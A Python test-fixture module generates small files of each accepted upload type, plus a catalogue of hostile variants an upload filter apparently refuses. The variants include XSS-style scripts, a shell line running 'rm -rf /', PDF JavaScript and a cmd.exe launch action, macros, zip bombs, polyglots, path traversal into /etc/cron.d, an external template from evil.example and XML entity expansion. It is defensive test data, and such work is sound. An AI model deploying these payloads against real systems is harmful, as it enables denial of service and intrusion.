"""Small whole files of every kind we take, made in code, and what hostile hands make of them."""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Mapping

from PIL import Image

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
SCRIPT = b"<html><script>alert(1)</script></html>"
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
MAINS = {
    "docx": ("word/document.xml", _WORD),
    "xlsx": ("xl/workbook.xml", _SHEET),
    "pptx": ("ppt/presentation.xml", _SLIDES),
}
Parts = Mapping[str, bytes | str]


def pdf(*objects: bytes, trailer: bytes = b"", words: bytes = b"Our policy") -> bytes:
    """A PDF of one page that says ``words``; further ``objects`` are numbered from 6."""
    content = b"BT /F1 24 Tf 72 720 Td (" + words + b") Tj ET"
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R" + trailer + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 612 792] >>",
        b"<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    starts = []
    for number, body in enumerate(bodies, 1):
        starts.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % start for start in starts)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(bodies) + 1)
    out += b"startxref\n%d\n%%%%EOF\n" % table
    return bytes(out)


def text_of_pdf(data: bytes) -> str:
    """The words of a PDF that was made here, line by line, read by each of its fonts."""
    packed = re.findall(rb"stream\r?\n(.*?)\r?\nendstream", data, re.DOTALL)
    streams = []
    for one in packed:
        try:
            streams.append(zlib.decompress(one))
        except zlib.error:
            streams.append(one)
    fonts = [
        {code: chr(int(char, 16)) for code, char in re.findall(rb"<(\w{4})> <(\w{4})>\n", stream)}
        for stream in streams
        if b"beginbfchar" in stream
    ]
    lines = [
        re.findall(rb"\w{4}", b"".join(re.findall(rb"<(\w+)>", line)))
        for stream in streams
        for line in re.findall(rb"\[(.*?)\] TJ", stream)
    ]
    return "\n".join(
        "".join(font.get(code, "?") for code in line) for font in fonts for line in lines
    )


def packed_objects(inner: bytes, extra: bytes = b"/Filter /FlateDecode") -> bytes:
    """An object stream that holds ``inner``."""
    packed = zlib.compress(b"9 0 " + inner)
    return b"<< /Type /ObjStm /N 1 /First 4 %s /Length %d >>\nstream\n%s\nendstream" % (
        extra,
        len(packed),
        packed,
    )


def picture(kind: str = "PNG", size: tuple[int, int] = (60, 40)) -> bytes:
    """A picture that Pillow has written."""
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(out, kind)
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack("!L", len(data)) + kind + data + struct.pack("!L", zlib.crc32(kind + data))


def archive(parts: Parts, stored: tuple[str, ...] = ()) -> bytes:
    """A ZIP archive of these parts, in this order."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            way = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            made.writestr(zipfile.ZipInfo(name), content, way)
    return out.getvalue()


def types_of(*said: tuple[str, str]) -> str:
    """``[Content_Types].xml`` naming parts and their types."""
    rows = "".join(f'<Override PartName="/{name}" ContentType="{kind}"/>' for name, kind in said)
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'content-types"><Default Extension="xml" ContentType="application/xml"/>{rows}</Types>'
    )


def office_parts(kind: str = "docx", more: Parts | None = None) -> dict[str, bytes | str]:
    """The parts of a Word, Excel or PowerPoint document, and ``more`` by name."""
    main, said = MAINS[kind]
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": types_of((main, said)),
        "_rels/.rels": relation("officeDocument", main),
        main: "<document><body><p>We keep people safe.</p></body></document>",
    }
    return parts | dict(more or {})


def relation(kind: str, target: str, *, outside: bool = False) -> str:
    """One relationship of a part."""
    mode = ' TargetMode="External"' if outside else ""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}"{mode}/></Relationships>'
    )


def office(kind: str = "docx", more: Parts | None = None) -> bytes:
    return archive(office_parts(kind, more))


def open_document(kind: str = "text", more: Parts | None = None) -> bytes:
    """An OpenDocument text or spreadsheet."""
    parts: dict[str, bytes | str] = {
        "mimetype": f"application/vnd.oasis.opendocument.{kind}",
        "content.xml": "<office:document-content/>",
        "META-INF/manifest.xml": "<manifest:manifest/>",
    }
    return archive(parts | dict(more or {}), stored=("mimetype",))


def lying(data: bytes, size: int) -> bytes:
    """The archive with its first entry said to unpack to ``size`` bytes, in both places."""
    out = bytearray(data)
    struct.pack_into("<L", out, 22, size)
    struct.pack_into("<L", out, out.index(b"PK\x01\x02") + 24, size)
    return bytes(out)


def hostile() -> dict[str, tuple[str, bytes]]:
    """What is refused: what it is → (the name it comes with, its content)."""
    javascript = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    docm = office(more={"word/vbaProject.bin": OLE})
    bomb = office(more={"word/media/image1.png": b"\0" * 25_000_000})
    linked = relation("attachedTemplate", "https://evil.example/x.dotm", outside=True)
    png, jpeg = picture(), picture("JPEG")
    return {
        "a page named .pdf": ("policy.pdf", b"<!DOCTYPE html>" + SCRIPT),
        "a page with a mark before it": ("policy.pdf", b"\xef\xbb\xbf \n<html></html>"),
        "a drawing with a script": ("logo.png", b'<svg xmlns="x"><script>alert(1)</script></svg>'),
        "a declared drawing": ("logo.svg", b'<?xml version="1.0"?><svg onload="alert(1)"/>'),
        "an old Word file": ("policy.doc", OLE),
        "an old Word file named .docx": ("policy.docx", OLE),
        "a program": ("policy.pdf", b"MZ" + b"\0" * 500),
        "a script": ("policy.pdf", b"#!/bin/sh\nrm -rf /\n"),
        "a moving picture": ("x.gif", b"GIF89a" + b"\0" * 50),
        "text": ("policy.txt", b"We keep people safe."),
        "nothing": ("policy.pdf", b""),
        "macros": ("policy.docx", docm),
        "a macro document inside another": ("p.docx", office(more={"word/media/a.docm": docm})),
        "an embedded object": ("p.docx", office(more={"word/embeddings/oleObject1.bin": OLE})),
        "an object named as a picture": ("p.docx", office(more={"word/media/image1.emf": OLE})),
        "macros said in the types": (
            "p.docx",
            archive(
                office_parts()
                | {"[Content_Types].xml": types_of(("word/document.xml", _macro_type()))}
            ),
        ),
        "a template from outside": (
            "p.docx",
            office(more={"word/_rels/settings.xml.rels": linked}),
        ),
        "OpenDocument macros": ("p.odt", open_document(more={"Basic/Standard/m.xml": "<x/>"})),
        "a plain archive": ("p.docx", archive({"policy.pdf": pdf()})),
        "PDF with a script": ("p.pdf", pdf(javascript, trailer=b" /OpenAction 6 0 R")),
        "PDF with a script spelt in codes": (
            "p.pdf",
            pdf(javascript.replace(b"/JavaScript", b"/J#61va#53cript")),
        ),
        "PDF with a script packed away": ("p.pdf", pdf(packed_objects(javascript))),
        "PDF packed so that nobody can look": (
            "p.pdf",
            pdf(packed_objects(b"<< >>", b"/Filter [/ASCIIHexDecode /FlateDecode]")),
        ),
        "PDF with a file inside": ("p.pdf", pdf(b"<< /Type /EmbeddedFile /Length 0 >>")),
        "PDF that starts a program": ("p.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>")),
        "PDF with a password": ("p.pdf", pdf(trailer=b" /Encrypt 6 0 R")),
        "PDF that unpacks to a hundred megabytes": (
            "p.pdf",
            pdf(packed_objects(b" " * 100_000_000)),
        ),
        "half a PDF": ("p.pdf", pdf()[:300]),
        "PDF and page": ("p.pdf", pdf(words=SCRIPT.replace(b"(", b"").replace(b")", b""))),
        "PDF and page behind it": ("p.pdf", pdf() + SCRIPT),
        "PDF and archive": ("p.pdf", pdf() + archive({"a.txt": "x"})),
        "PDF and archive in one": ("p.pdf", _pdf_around_archive()),
        "picture and page": ("p.png", png + SCRIPT),
        "picture with a page in its remarks": (
            "p.png",
            png[:33] + png_chunk(b"tEXt", b"Comment\0<svg onload=alert(1)>") + png[33:],
        ),
        "picture and archive": ("p.jpg", jpeg + archive({"a.txt": "x"})),
        "picture and PDF": ("p.png", png[:33] + png_chunk(b"tEXt", b"a\0" + pdf()) + png[33:]),
        "half a picture": ("p.png", png[: len(png) // 2]),
        "half a JPEG": ("p.jpg", jpeg[: len(jpeg) // 2]),
        "archive and page before it": ("p.docx", SCRIPT + office()),
        "archive with a page between": ("p.docx", _with_a_gap()),
        "archive with a remark": ("p.docx", _with_a_remark()),
        "half a document": ("p.docx", office()[:-40]),
        "a bomb": ("p.docx", bomb),
        "a bomb inside a document": ("p.docx", office(more={"word/media/image1.png": bomb})),
        "a document of many parts": ("p.docx", _many()),
        "a document that lies about its size": ("p.docx", lying(office(), 20)),
        "a document that promises a gigabyte": ("p.docx", lying(office(), 1_000_000_000)),
        "parts on top of one another": ("p.docx", _overlapping()),
        "a part above its folder": ("p.docx", office(more={"../../etc/cron.d/x.xml": "<x/>"})),
        "entities that unfold": (
            "p.docx",
            archive(office_parts() | {"[Content_Types].xml": _unfolding()}),
        ),
    }


def _macro_type() -> str:
    return "application/vnd.ms-word.document.macroEnabled.main+xml"


def _pdf_around_archive() -> bytes:
    """The end of the archive lies before the end of the PDF, as a remark of its own."""
    zipped = archive({"a.txt": "x"})
    tail = b"\n%%EOF\n"
    return pdf() + zipped[:-2] + struct.pack("<H", len(tail)) + tail


def _with_a_gap() -> bytes:
    made = office()
    end = made.rindex(b"PK\x05\x06")
    directory = int.from_bytes(made[end + 16 : end + 20], "little")
    later = struct.pack("<L", directory + len(SCRIPT))
    return made[:directory] + SCRIPT + made[directory : end + 16] + later + made[end + 20 :]


def _with_a_remark() -> bytes:
    return office()[:-2] + struct.pack("<H", len(SCRIPT)) + SCRIPT


def _many() -> bytes:
    return archive(office_parts() | {f"word/media/{n}.xml": "" for n in range(2_100)})


def _overlapping() -> bytes:
    """Two entries of the directory that share one place."""
    made = bytearray(office())
    first = made.index(b"PK\x01\x02")
    second = made.index(b"PK\x01\x02", first + 4)
    made[second + 42 : second + 46] = made[first + 42 : first + 46]
    return bytes(made)


def _unfolding() -> str:
    return (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
        "<Types>&b;</Types>"
    )
